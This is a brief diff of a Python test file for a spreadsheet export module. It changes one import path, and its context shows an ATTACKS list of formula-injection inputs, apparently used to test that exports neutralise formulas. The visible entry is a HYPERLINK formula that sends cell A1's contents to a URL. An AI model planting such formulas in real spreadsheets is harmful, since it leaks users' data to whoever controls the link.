@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from kontobro.core.errors import Misconfigured
-from kontobro.export.sheets import CsvRows, csv_file, csv_lines, looks_like_formula, xlsx_book, xlsx_file
+from kontobro.export.tieout.sheets import CsvRows, csv_file, csv_lines, looks_like_formula, xlsx_book, xlsx_file
 
 ATTACKS = [
     '=HYPERLINK("http://127.0.0.1/?"&A1,"open")',
